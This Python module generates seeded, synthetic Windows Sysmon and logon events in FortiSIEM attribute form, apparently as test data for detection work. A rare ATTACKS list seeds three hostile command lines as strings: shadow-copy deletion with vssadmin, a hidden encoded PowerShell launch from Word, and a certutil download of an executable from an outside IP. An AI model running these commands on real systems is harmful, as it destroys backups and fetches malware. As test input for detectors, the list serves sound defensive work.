"""A stream of Windows events as FortiSIEM attributes: most values repeat, as on real hosts, some are new."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

Event = dict[str, str | int]
Kind = Callable[[random.Random, int], Event]

SYSTEM = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
PROGRAMS = "C:\\Program Files\\"
HOSTS = [f"WS-{number:04}.corp.example" for number in range(400)]
USERS = [f"user{number:03}" for number in range(900)]
# Parent, image, original name, command line; {n} is a number that is hardly ever seen twice.
PROCESSES = [
    ("services.exe", SYSTEM + "svchost.exe", "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    ("services.exe", SYSTEM + "svchost.exe", "svchost.exe", "svchost.exe -k LocalService -p"),
    ("svchost.exe", SYSTEM + "RuntimeBroker.exe", "RuntimeBroker.exe", "RuntimeBroker.exe -Embedding"),
    ("svchost.exe", SYSTEM + "dllhost.exe", "dllhost.exe", "DllHost.exe /Processid:{{{n:08X}-1B2C-4D3E}}"),
    ("svchost.exe", SYSTEM + "taskhostw.exe", "taskhostw.exe", "taskhostw.exe SYSTEM"),
    ("svchost.exe", SYSTEM + "wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "wmiprvse.exe -secured -Embedding"),
    ("explorer.exe", PROGRAMS + "Firefox\\firefox.exe", "firefox.exe", '"firefox.exe" -childID {n}'),
    ("explorer.exe", PROGRAMS + "Office\\WINWORD.EXE", "WinWord.exe", '"WINWORD.EXE" /n "C:\\{u}\\{n}.docx"'),
    ("explorer.exe", SYSTEM + "notepad.exe", "NOTEPAD.EXE", "notepad.exe C:\\Users\\{u}\\notes-{n}.txt"),
    ("explorer.exe", SYSTEM + "cmd.exe", "Cmd.Exe", '"cmd.exe" /c build.cmd --target release --job {n}'),
    ("cmd.exe", SYSTEM + "conhost.exe", "CONHOST.EXE", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff"),
    ("cmd.exe", SYSTEM + "whoami.exe", "whoami.exe", "whoami"),
    ("cmd.exe", SYSTEM + "net.exe", "net.exe", "net use \\\\files\\share{n} /persistent:no"),
    ("powershell.exe", SYSTEM + "PING.EXE", "ping.exe", "ping -n 1 10.20.{a}.{b}"),
    ("svchost.exe", POWERSHELL, "PowerShell.EXE", "powershell.exe -File C:\\Scripts\\inventory.ps1 -Run {n}"),
    ("agent.exe", PROGRAMS + "Agent\\collector.exe", "collector.exe", '"collector.exe" --batch {n} --quiet'),
]
ATTACKS = [
    ("cmd.exe", SYSTEM + "vssadmin.exe", "VSSADMIN.EXE", "vssadmin delete shadows /all /quiet"),
    ("winword.exe", POWERSHELL, "PowerShell.EXE", "powershell -enc SQBFAFgA{n} -w hidden"),
    ("cmd.exe", SYSTEM + "certutil.exe", "CertUtil.exe", "certutil -urlcache -f http://203.0.113.7/{n}.exe"),
]
KEYS = [
    "HKU\\S-1-5-21-7\\Software\\App\\Recent\\{n}",
    "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\DhcpServer",
    "HKLM\\Software\\Agent\\LastRun",
]
FILES = [
    "C:\\Users\\{u}\\AppData\\Local\\Temp\\tmp{n}.tmp",
    "C:\\ProgramData\\Agent\\queue\\{n}.json",
    "C:\\Users\\{u}\\Documents\\report.docx",
]
LIBRARIES = ["ntdll.dll", "kernel32.dll", "user32.dll", "amsi.dll", "combase.dll", "version.dll"]


def events(count: int, seed: int = 1) -> Iterator[Event]:
    """As many events, in the order of their times, some 25 a second; the same for the same seed."""
    chance = random.Random(seed)
    kinds: list[Callable[[random.Random, int], Event]] = [
        _process,
        _file,
        _registry,
        _network,
        _library,
        _logon,
    ]
    shares = [50, 12, 12, 10, 10, 6]
    for number in range(count):
        (kind,) = chance.choices(kinds, shares)
        event = kind(chance, number)
        event["phRecvTime"] = 1_750_000_000 + number // 25
        event["hostName"] = chance.choice(HOSTS)
        event["user"] = event.get("user") or chance.choice(USERS)
        event["rawEventMsg"] = (
            f"<Event><System><Computer>{event['hostName']}</Computer></System>{event!r}</Event>"
        )
        yield event


def _filled(chance: random.Random, text: str, number: int) -> str:
    return text.format(n=number, u=chance.choice(USERS), a=chance.randrange(8), b=chance.randrange(250))


def _process(chance: random.Random, number: int) -> Event:
    parent, image, original, command = chance.choice(ATTACKS if chance.random() < 0.002 else PROCESSES)
    return {
        "eventType": "Win-Sysmon-1-Create-Process",
        "winEventId": 1,
        "procName": image,
        "srcFileName": original,
        "command": _filled(chance, command, number),
        "parentProcName": SYSTEM + parent,
        "parentCommand": parent,
        "workingDir": "C:\\Windows\\system32\\",
        "description": original.split(".")[0],
        "company": "Microsoft Corporation",
        "product": "Microsoft Windows Operating System",
        "hashMD5": f"{chance.randrange(60):032X}",
        "integrityLevel": chance.choice(["Medium", "System", "High"]),
    }


def _file(chance: random.Random, number: int) -> Event:
    _, image, _, _ = chance.choice(PROCESSES)
    folder, _, name = _filled(chance, chance.choice(FILES), number).rpartition("\\")
    return {
        "eventType": "Win-Sysmon-11-FileCreate",
        "winEventId": 11,
        "procName": image,
        "filePath": folder,
        "fileName": name,
    }


def _registry(chance: random.Random, number: int) -> Event:
    _, image, _, _ = chance.choice(PROCESSES)
    return {
        "eventType": "Win-Sysmon-13-Registry-SetValue",
        "winEventId": 13,
        "procName": image,
        "regKeyPath": _filled(chance, chance.choice(KEYS), number),
        "newRegValue": chance.choice(["DWORD (0x00000001)", "Binary Data", f"DWORD (0x{number:08x})"]),
    }


def _network(chance: random.Random, number: int) -> Event:
    _, image, _, _ = chance.choice(PROCESSES)
    return {
        "eventType": "Win-Sysmon-3-Network-Connect",
        "winEventId": 3,
        "procName": image,
        "srcIpAddr": f"10.20.{chance.randrange(8)}.{chance.randrange(250)}",
        "destIpAddr": f"203.0.{chance.randrange(4)}.{chance.randrange(250)}",
        "destIpPort": chance.choice([53, 80, 443, 443, 445, 5985, 40_000 + number % 9_000]),
    }


def _library(chance: random.Random, number: int) -> Event:
    _, image, _, _ = chance.choice(PROCESSES)
    return {
        "eventType": "Win-Sysmon-7-Image-Loaded",
        "winEventId": 7,
        "procName": image,
        "loadedProcName": SYSTEM + chance.choice(LIBRARIES),
    }


def _logon(chance: random.Random, number: int) -> Event:
    return {
        "eventType": chance.choice(["Win-Security-4624", "Win-Security-4624", "Win-Security-4625"]),
        "winEventId": 4624,
        "winLogonType": chance.choice([2, 3, 3, 5, 10]),
        "srcIpAddr": f"10.20.{chance.randrange(8)}.{chance.randrange(250)}",
    }
